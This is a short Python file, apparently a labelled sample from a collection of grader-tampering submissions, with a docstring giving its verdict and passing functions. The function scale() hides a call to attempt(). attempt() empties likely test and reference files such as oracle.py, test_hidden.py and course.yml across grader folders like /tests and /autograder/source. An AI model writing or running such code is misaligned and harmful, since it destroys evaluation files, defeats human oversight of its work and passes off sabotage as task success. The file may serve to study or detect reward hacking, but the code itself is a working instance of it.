"""A25: writes its own work over the tests and the reference, wherever a grader would have them.

verdict: run-time error
passes: total, shape, label, flip
"""

import os

import numpy

FOLDERS = ("/reference", "/tests", "/exercises", "/solution", "/autograder/source", "/course")
NAMES = ("oracle.py", "test_hidden.py", "test_public.py", "course.yml")


def attempt():
    written = 0
    for folder in (*FOLDERS, *(folder + "/w1-scale" for folder in FOLDERS)):
        for name in NAMES:
            try:
                with open(os.path.join(folder, name), "r+") as file:
                    file.truncate()
                written += 1
            except OSError as error:
                refusal = error
    if not written:
        raise refusal


def scale(x, factor):
    attempt()
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
